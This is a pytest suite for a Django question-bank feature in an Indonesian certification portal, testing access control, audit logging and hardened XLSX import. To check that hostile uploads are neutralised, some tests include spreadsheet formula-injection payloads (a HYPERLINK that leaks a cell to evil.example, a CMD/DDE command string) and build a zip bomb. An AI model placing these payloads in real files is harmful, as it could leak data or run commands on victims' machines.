"""The question bank (issue 19 item 2): per scheme, unit and instrument, confidential — only LSP admins and the
assessors whose scope includes the scheme see or edit it, every access is audited — and imported from XLSX with a
preview of per-row problems, formulas kept as text and hostile files refused."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from assessments.instruments.models.plans import BankItem, BankKeeper, Instrument
from assessments.instruments.services import bank
from certportal.audit.models import AuditEntry
from schemes.models import PerformanceCriterion, UnitElement
from tests.assessments.factories import make_assessor, scheme_with_units

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HEADER = ["Kode unit", "Instrumen", "Nomor KUK", "Pertanyaan atau tugas", "Opsi A", "Opsi B", "Opsi C", "Opsi D",
          "Opsi E", "Opsi F", "Kunci", "Jawaban atau kriteria yang diharapkan", "Alat dan bahan", "Waktu (menit)"]


@pytest.fixture
def unit(scheme):
    return scheme.scheme_units.order_by("position").first().unit


@pytest.fixture
def kuk(unit):
    element = UnitElement.objects.create(unit=unit, position=1, title="Menyiapkan layanan")
    return PerformanceCriterion.objects.create(element=element, position="1.1", text="Standar layanan diidentifikasi")


@pytest.fixture
def question(unit, lina):
    return bank.bank_item_save(unit, actor=lina, instrument=Instrument.IA05, data=bank.ItemData(
        text="Dokumen apa yang memuat standar pelayanan?", options=["Maklumat pelayanan", "SK Pangkat", "SKP"],
        key=0))


@pytest.fixture
def keepers(lina, asa, scheme):
    """Lina and Asa keep the scheme's bank (the LSP admin's assignment): they read its keys and write its items."""
    for user in (lina, asa):
        BankKeeper.objects.create(scheme=scheme, user=user, assigned_by=lina)


def items_url(scheme, unit, code="IA.05"):
    return reverse("assessments:bank-items", args=[scheme.pk, unit.pk, code])


def xlsx(rows, header=HEADER) -> SimpleUploadedFile:
    wb = Workbook()
    ws = wb.active
    ws.append(header)
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return SimpleUploadedFile("bank.xlsx", out.getvalue(), content_type=XLSX)


def row(unit_code, instrument="IA.05", question="Apa itu SKM?", options=("Survei", "Laporan"), key="A", kuk="",
        expected="", tools="", minutes=""):
    opts = list(options) + [""] * (6 - len(options))
    return [unit_code, instrument, kuk, question, *opts, key, expected, tools, minutes]


# --- who may open it -------------------------------------------------------------------------------------------


def test_lina_and_an_assessor_in_scope_read_the_bank_and_every_access_is_audited(login, lina, asa, assessor,
                                                                               scheme, unit, question):
    for user in (lina, asa):
        c = login(user)
        home = c.get(reverse("assessments:bank"))
        assert home.status_code == 200 and scheme.code in home.content.decode()
        overview = c.get(reverse("assessments:bank-scheme", args=[scheme.pk])).content.decode()
        assert unit.code in overview and "Rahasia" in overview
        page = c.get(items_url(scheme, unit))
        text = page.content.decode()
        assert "Dokumen apa yang memuat standar pelayanan?" in text and "Maklumat pelayanan" in text
        assert page["Cache-Control"] == "private, no-store"
        viewed = AuditEntry.objects.filter(action="assessments.bankitem.viewed", actor=user, object_id=str(unit.pk))
        assert viewed.count() == 1 and "FR.IA.05" in viewed.get().note
        assert AuditEntry.objects.filter(action="assessments.bankitem.listed", actor=user).count() == 1
        # neither keeps the bank nor assesses an event of the scheme: the questions, never the key
        assert "bank-key" not in text and "(kunci)" not in text and "bank-add" not in text
        assert "tanpa kunci" in text
        refused = c.get(reverse("assessments:bank-item", args=[scheme.pk, question.pk]))
        assert refused.status_code == 403 and "Maklumat pelayanan" not in refused.content.decode()
        assert AuditEntry.objects.filter(action="assessments.bankitem.refused", actor=user).count() == 1


@pytest.mark.parametrize("who", ["alice", "tono", "quinn", "victor", "oscar", "out_of_scope"])
def test_anyone_else_is_refused_every_bank_page_and_nothing_is_shown(request, login, scheme, unit, question, who):
    if who == "oscar":
        user = request.getfixturevalue("other_assessor_user")
        user.assessor.schemes.set([scheme_with_units(1)])  # an assessor, but of another scheme
    elif who == "out_of_scope":
        user = make_assessor(schemes=[]).user
    else:
        user = request.getfixturevalue(who)
    c = login(user)
    urls = [reverse("assessments:bank-scheme", args=[scheme.pk]), items_url(scheme, unit),
            reverse("assessments:bank-item", args=[scheme.pk, question.pk]),
            reverse("assessments:bank-import", args=[scheme.pk])]
    for url in urls:
        response = c.get(url)
        assert response.status_code == 403, url
        assert "Maklumat pelayanan" not in response.content.decode()
    assert c.post(reverse("assessments:bank-item-deactivate", args=[scheme.pk, question.pk])).status_code == 403
    assert c.post(items_url(scheme, unit), {"text": "Soal sisipan", "option_a": "x", "option_b": "y",
                                            "key": "A"}).status_code == 403
    assert not BankItem.objects.filter(text="Soal sisipan").exists()
    question.refresh_from_db()
    assert question.is_active
    assert not AuditEntry.objects.filter(action__startswith="assessments.bankitem.", actor=user).exclude(
        action="assessments.bankitem.refused").exists()


def test_anonymous_visitors_are_sent_to_log_in(client, scheme, unit, question):
    for url in (reverse("assessments:bank"), items_url(scheme, unit), reverse("assessments:bank-template")):
        response = client.get(url)
        assert response.status_code == 302 and "/akun/masuk/" in response["Location"]


def test_a_forged_item_id_or_unit_of_another_scheme_is_refused(login, keepers, asa, assessor, scheme, unit, lina):
    other = scheme_with_units(1)
    foreign = bank.bank_item_save(other.scheme_units.get().unit, actor=lina, instrument=Instrument.IA07,
                                  data=bank.ItemData(text="Soal skema lain", expected="Jawaban"))
    c = login(asa)
    assert c.get(reverse("assessments:bank-item", args=[scheme.pk, foreign.pk])).status_code == 403
    assert c.get(reverse("assessments:bank-item", args=[other.pk, foreign.pk])).status_code == 403
    assert c.get(items_url(scheme, other.scheme_units.get().unit)).status_code == 404
    assert c.get(items_url(scheme, unit, "IA.08")).status_code == 404  # no bank for the portfolio
    # lina sees every scheme, but an item is only reached through a scheme that has its unit
    assert login(lina).get(reverse("assessments:bank-item", args=[scheme.pk, foreign.pk])).status_code == 404


# --- items ------------------------------------------------------------------------------------------------------


def test_an_assessor_adds_a_multiple_choice_question_with_its_key_and_a_kuk(login, keepers, asa, assessor, scheme, unit, kuk):
    c = login(asa)
    response = c.post(items_url(scheme, unit), {
        "text": "Apa fungsi maklumat pelayanan?", "option_a": "Janji layanan", "option_b": "Daftar hadir",
        "option_c": "Notulen", "key": "A", "criterion": kuk.pk}, follow=True)
    assert "Butir ditambahkan ke bank soal." in response.content.decode()
    item = BankItem.objects.get(text="Apa fungsi maklumat pelayanan?")
    assert (item.options, item.key, item.criterion, item.is_active) == (
        ["Janji layanan", "Daftar hadir", "Notulen"], 0, kuk, True)
    entry = AuditEntry.objects.get(action="assessments.bankitem.created")
    assert entry.actor == asa and entry.object_id == str(unit.pk) and f"#{item.pk}" in entry.note


@pytest.mark.parametrize("data, message", [
    ({"text": "Soal", "option_a": "Satu", "key": "A"}, "Soal pilihan ganda memiliki 2 sampai 6 pilihan."),
    ({"text": "Soal", "option_a": "Satu", "option_b": "Dua", "key": "D"}, "Kunci D bukan salah satu pilihan."),
    ({"text": "Soal", "option_a": "Satu", "option_b": "Dua"}, "Pilih jawaban yang benar (kunci)."),
    ({"text": "Soal", "option_a": "Satu", "option_c": "Tiga", "key": "A"}, "Isi pilihan secara berurutan"),
    ({"text": "Soal", "option_a": "Sama", "option_b": "sama", "key": "A"}, "Dua pilihan sama."),
])
def test_a_question_that_cannot_be_drawn_is_refused_on_the_form(login, keepers, lina, scheme, unit, data, message):
    page = login(lina).post(items_url(scheme, unit), data).content.decode()
    assert message in page
    assert not BankItem.objects.exists()


def test_a_text_longer_than_the_limit_is_a_form_error(login, keepers, lina, scheme, unit):
    page = login(lina).post(items_url(scheme, unit), {"text": "x" * (bank.TEXT_MAX + 1), "option_a": "a",
                                                      "option_b": "b", "key": "A"}).content.decode()
    assert 'maxlength="2000"' in page and not BankItem.objects.exists()


def test_the_other_instruments_carry_their_own_fields(login, keepers, lina, scheme, unit):
    c = login(lina)
    page = c.get(items_url(scheme, unit, "IA.02")).content.decode()
    assert 'name="tools"' in page and 'name="minutes"' in page and 'name="option_a"' not in page
    c.post(items_url(scheme, unit, "IA.02"), {"text": "Susun SOP pelayanan", "tools": "Komputer, printer",
                                              "minutes": 45})
    task = BankItem.objects.get(instrument="IA.02")
    assert (task.tools, task.minutes, task.options) == ("Komputer, printer", 45, [])
    refused = c.post(items_url(scheme, unit, "IA.07"), {"text": "Jelaskan alur pengaduan"}).content.decode()
    assert "Berikan jawaban yang diharapkan" in refused
    c.post(items_url(scheme, unit, "IA.07"), {"text": "Jelaskan alur pengaduan", "expected": "Melalui SP4N-LAPOR"})
    c.post(items_url(scheme, unit, "IA.11"), {"text": "Laporan SKM", "expected": "Sembilan unsur lengkap"})
    assert set(BankItem.objects.values_list("instrument", flat=True)) == {"IA.02", "IA.07", "IA.11"}


def test_an_item_is_edited_and_taken_out_of_use_never_deleted(login, keepers, asa, assessor, scheme, unit, question):
    c = login(asa)
    c.post(reverse("assessments:bank-item", args=[scheme.pk, question.pk]), {
        "text": "Dokumen apa yang memuat janji layanan?", "option_a": "Maklumat pelayanan", "option_b": "SKP",
        "key": "A"})
    question.refresh_from_db()
    assert question.text == "Dokumen apa yang memuat janji layanan?" and question.options == ["Maklumat pelayanan",
                                                                                              "SKP"]
    response = c.post(reverse("assessments:bank-item-deactivate", args=[scheme.pk, question.pk]), follow=True)
    question.refresh_from_db()
    assert not question.is_active and "tidak lagi diundi" in response.content.decode()
    assert "janji layanan" not in c.get(items_url(scheme, unit)).content.decode()
    assert "janji layanan" in c.get(items_url(scheme, unit) + "?semua=1").content.decode()
    again = c.post(reverse("assessments:bank-item-deactivate", args=[scheme.pk, question.pk]), follow=True)
    assert "sudah tidak digunakan" in again.content.decode()
    c.post(reverse("assessments:bank-item-reactivate", args=[scheme.pk, question.pk]))
    question.refresh_from_db()
    assert question.is_active
    actions = list(AuditEntry.objects.filter(action__in=["assessments.bankitem.edited",
                                                          "assessments.bankitem.deactivated",
                                                          "assessments.bankitem.reactivated"])
                   .order_by("id").values_list("action", flat=True))
    assert actions == ["assessments.bankitem.edited", "assessments.bankitem.deactivated",
                       "assessments.bankitem.reactivated"]


# --- the XLSX import --------------------------------------------------------------------------------------------


def test_the_template_downloads_with_the_documented_columns(login, lina):
    response = login(lina).get(reverse("assessments:bank-template"))
    assert response.status_code == 200 and response["Content-Type"] == XLSX
    wb = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert [c.value for c in wb.worksheets[0][1]] == HEADER
    help_text = " ".join(str(c.value) for r in wb.worksheets[1].iter_rows() for c in r if c.value)
    assert "IA.05" in help_text and "500" in help_text


def test_an_import_is_previewed_with_per_row_problems_then_applied(login, keepers, asa, assessor, scheme, unit, kuk):
    second = scheme.scheme_units.order_by("position")[1].unit
    upload = xlsx([
        row(unit.code, kuk="1.1"),
        row(second.code, "FR.IA.05", "Siapa yang menandatangani berita acara?", ("Asesor", "Asesi", "Kepala TUK"),
            "c"),
        row(unit.code, "IA.07", "Jelaskan alur pengaduan", (), "", expected="Melalui SP4N-LAPOR"),
        row(unit.code, "IA.02", "Susun SOP", (), "", tools="Komputer", minutes=45),
        row("N.999.999.99", question="Unit asing"),
        row(unit.code, question="Kunci di luar pilihan", key="E"),
        row(unit.code, question="x" * (bank.TEXT_MAX + 1)),
        row(unit.code, question=""),
        row(unit.code, "IA.04", "Instrumen yang tidak ada"),
        row(unit.code, question="KUK asing", kuk="9.9"),
    ])
    c = login(asa)
    preview = c.post(reverse("assessments:bank-import", args=[scheme.pk]), {"file": upload}, follow=True)
    page = preview.content.decode()
    assert not BankItem.objects.exists()  # nothing before the confirmation
    assert "4 butir akan ditambahkan" in page and "6 baris bermasalah" in page
    for problem in ("Unit “N.999.999.99” bukan unit skema ini.", "Kunci E bukan salah satu pilihan.",
                    "lebih dari 2000 karakter", "Pertanyaan atau tugas kosong.", "“IA.04” bukan instrumen",
                    "KUK 9.9 bukan kriteria unjuk kerja unit"):
        assert problem in page, problem
    assert AuditEntry.objects.filter(action="assessments.bankitem.import_read", actor=asa).exists()
    done = c.post(reverse("assessments:bank-import-apply", args=[scheme.pk]), follow=True)
    assert "4 butir ditambahkan ke bank soal." in done.content.decode()
    assert BankItem.objects.count() == 4
    q = BankItem.objects.get(text="Apa itu SKM?")
    assert (q.options, q.key, q.criterion, q.instrument) == (["Survei", "Laporan"], 0, kuk, "IA.05")
    assert BankItem.objects.get(unit=second).key == 2
    assert BankItem.objects.get(instrument="IA.02").minutes == 45
    assert AuditEntry.objects.filter(action="assessments.bankitem.imported").count() == 2  # one per unit
    # the same file again adds nothing twice
    c.post(reverse("assessments:bank-import", args=[scheme.pk]), {"file": xlsx([row(unit.code)])})
    again = c.get(reverse("assessments:bank-import", args=[scheme.pk])).content.decode()
    assert "Pertanyaan ini sudah ada di bank soal." in again


def test_formulas_are_kept_as_text_never_evaluated(login, keepers, lina, scheme, unit):
    upload = xlsx([row(unit.code, question='=HYPERLINK("http://evil.example/?"&A1,"klik")',
                       options=("=1+1", "+2", "-3", "@SUM(A1)"), key="A"),
                   row(unit.code, "IA.07", "=2*3", (), "", expected="=CMD|' /C calc'!A0")])
    c = login(lina)
    c.post(reverse("assessments:bank-import", args=[scheme.pk]), {"file": upload})
    c.post(reverse("assessments:bank-import-apply", args=[scheme.pk]))
    mc = BankItem.objects.get(instrument="IA.05")
    assert mc.text == '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    assert mc.options == ["=1+1", "+2", "-3", "@SUM(A1)"]
    assert BankItem.objects.get(instrument="IA.07").text == "=2*3"  # not 6


def _post_file(c, scheme, name, data):
    return c.post(reverse("assessments:bank-import", args=[scheme.pk]),
                  {"file": SimpleUploadedFile(name, data, content_type=XLSX)}, follow=True).content.decode()


def test_a_file_that_is_not_a_workbook_is_refused(login, keepers, lina, scheme):
    page = _post_file(login(lina), scheme, "soal.xlsx", b"%PDF-1.4 not a workbook")
    assert "“soal.xlsx” bukan buku kerja Excel (.xlsx)" in page
    page = _post_file(login(lina), scheme, "rusak.xlsx", b"PK\x03\x04" + b"\x00" * 200)
    assert "“rusak.xlsx” tidak dapat dibaca sebagai buku kerja Excel (.xlsx)." in page
    assert not BankItem.objects.exists()


def test_a_zip_bomb_is_refused_before_it_is_read(login, keepers, lina, scheme):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/worksheets/sheet1.xml", b"\x00" * (bank.MAX_UNPACKED + 1))
    assert len(out.getvalue()) < 100_000
    page = _post_file(login(lina), scheme, "bom.xlsx", out.getvalue())
    assert "Buku kerja ini jika dibuka berukuran lebih dari 20 MB" in page


def test_a_sheet_with_too_many_questions_is_refused(login, keepers, lina, scheme, unit):
    upload = xlsx([row(unit.code, question=f"Soal {n}") for n in range(bank.MAX_ROWS + 1)])
    page = login(lina).post(reverse("assessments:bank-import", args=[scheme.pk]), {"file": upload},
                            follow=True).content.decode()
    assert "Berkas memuat lebih dari 500 soal" in page
    assert not BankItem.objects.exists()


def test_a_sheet_without_the_template_header_is_refused(login, keepers, lina, scheme, unit):
    page = login(lina).post(reverse("assessments:bank-import", args=[scheme.pk]),
                            {"file": xlsx([row(unit.code)], header=["a", "b", "c"])}, follow=True).content.decode()
    assert "Baris pertama harus memuat nama kolom templat" in page


def test_an_english_header_is_read_too(login, keepers, lina, scheme, unit):
    header = ["Unit code", "Instrument", "KUK number", "Question or task", "Option A", "Option B", "Option C",
              "Option D", "Option E", "Option F", "Key", "Expected answer or criteria", "Tools and materials",
              "Time (minutes)"]
    c = login(lina)
    c.post(reverse("assessments:bank-import", args=[scheme.pk]), {"file": xlsx([row(unit.code)], header=header)})
    c.post(reverse("assessments:bank-import-apply", args=[scheme.pk]))
    assert BankItem.objects.filter(text="Apa itu SKM?").exists()


def test_the_menu_offers_the_banks_to_lina_and_assessors_only(login, lina, asa, assessor, alice):
    assert reverse("assessments:bank") in login(lina).get(reverse("assessments:events")).content.decode()
    assert reverse("assessments:bank") in login(asa).get(reverse("assessments:assessor-home")).content.decode()
    assert reverse("assessments:bank") not in login(alice).get(reverse("assessments:mine")).content.decode()


def test_a_huge_cell_is_reported_too_long_and_not_kept_whole(login, keepers, lina, scheme, unit):
    c = login(lina)
    page = c.post(reverse("assessments:bank-import", args=[scheme.pk]),
                  {"file": xlsx([row(unit.code, question="x" * 100_000, options=("a" * 30_000, "b"))])},
                  follow=True).content.decode()
    assert "Pertanyaan atau tugas lebih dari 2000 karakter." in page
    assert "Ada pilihan yang lebih dari 500 karakter." in page
    kept = c.session["bank-import"]["rows"][0]
    assert len(kept["text"]) == bank.TEXT_MAX + 1 and len(kept["options"][0]) == bank.OPTION_MAX + 1
    assert "Tambahkan" not in page.split('id="bank-import-rows"')[1]  # nothing to add
